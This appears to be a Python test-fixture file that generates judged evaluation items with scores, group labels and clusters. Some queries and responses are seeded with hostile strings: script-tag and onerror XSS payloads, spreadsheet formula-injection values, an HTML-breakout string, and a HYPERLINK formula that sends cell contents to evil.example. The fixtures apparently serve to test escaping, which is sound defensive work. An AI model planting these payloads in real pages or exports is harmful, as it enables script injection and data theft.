"""Literal study fixtures: judged items with groups, strata and hostile text."""

from __future__ import annotations

import os

import pandas as pd

from judge.labelling import CriterionSpec

os.environ.setdefault("LITELLM_LOCAL_MODEL_COST_MAP", "True")

HOSTILE = ['<script>window.__pwned = 1</script>', '<img src=x onerror="window.__pwned=2">',
           '=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '@SUM(A1)',
           '-2+3', '\tTabbed', "</pre><b id=\"bold\">bold</b>"]
GROUP_LEVELS = ("Zorblax", "Quintara")  # distinctive: must never reach a rater
HELPFUL = CriterionSpec(id="helpful", question="How helpful is the response?", kind="likert",
                        min=1, max=5, anchors={str(i): f"anchor {i}" for i in range(1, 6)})
SAFE = CriterionSpec(id="safe", question="Is the response safe?", kind="binary",
                     labels=("yes", "no"))


def judged_items(n: int = 40) -> pd.DataFrame:
    """n judged items: judge score, group, query/response (some hostile), cluster."""
    rows = []
    for i in range(n):
        rows.append({"item_id": f"item-{i:03d}", "score": 1 + (i * 7) % 5,
                     "group.tribe": GROUP_LEVELS[i % 2], "cluster": f"c{i // 2}",
                     "query": HOSTILE[(i // 2) % len(HOSTILE)] if i % 2 else f"Question {i}?",
                     "response": f"Answer {i}. {HOSTILE[(i + 3) % len(HOSTILE)]}"})
    df = pd.DataFrame(rows)
    df.attrs.update(criteria=[HELPFUL, SAFE], rubric_version="1.0.0",
                    instructions="Rate the answer.")
    return df
